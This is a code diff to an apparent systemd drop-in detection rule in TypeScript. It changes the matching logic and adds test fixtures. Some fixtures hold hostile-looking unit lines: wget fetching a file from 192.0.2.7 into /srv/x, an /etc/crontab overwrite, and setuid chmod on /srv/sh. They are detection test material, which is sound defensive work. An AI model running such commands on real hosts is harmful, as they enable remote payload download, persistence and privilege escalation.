@@ -37,9 +37,9 @@ export const dropInChangesCommand: ActivationRule = {
         original.filter(({ setting }) => isExec(setting)).flatMap(({ setting }) => programsIn(setting.value)),
       );
       for (const { setting, fate } of foreign) {
-        if (fate !== "effective" || !isExec(setting)) continue;
+        if (fate !== "effective") continue;
         for (const exec of commandsOf(loaded, setting)) {
-          const command = closure.commands.find((each) => each.exec === exec || each.exec.span === exec.span);
+          const command = closure.commands.find((each) => each.exec === exec);
           const isSame = known.has(exec.path) && !runsItsArguments(exec.path);
           if (isTame(exec, command) || (isSame && !exec.flags.some((flag) => flag !== "ignore-failure")))
             continue;
@@ -83,6 +83,10 @@ export const dropInChangesCommand: ActivationRule = {
         "/etc/systemd/system/vendor.service.d/x.conf":
           "[Service]\nExecStartPre=/bin/sleep 5\nExecStartPre=/bin/mkdir -p /root/.ssh/x\nExecStartPost=/usr/bin/echo a b > /etc/crontab\nExecStartPost=/bin/chmod 4755 /srv/sh\n",
       }),
+      shipped("vendor", "ExecStart=/usr/bin/vendor", {
+        "/etc/systemd/system/vendor.service.d/x.conf":
+          "[Service]\nExecStartPre=/usr/bin/systemd-cat /usr/bin/wget -qO /srv/x http://192.0.2.7/x\n",
+      }),
     ],
     finds: {
       8: [
@@ -102,6 +106,9 @@ export const dropInChangesCommand: ActivationRule = {
       shipped("vendor", "ExecStart=/usr/bin/vendor", {
         "/etc/systemd/system/vendor.service.d/x.conf":
           "[Service]\nExecStartPost=/root/run.sh\nExecStartPost=\nExecStartPre=-/usr/bin/vendor --check\nExecStartPre=/usr/bin/wget -q --spider https://hc.example.test/ping/1\n",
+      }),
+      shipped("vendor", "ExecStart=/usr/bin/wget -qO /srv/x http://192.0.2.7/x", {
+        "/etc/systemd/system/vendor.service.d/x.conf": "[Service]\nExecStartPost=/usr/bin/echo done\n",
       }),
     ],
   },
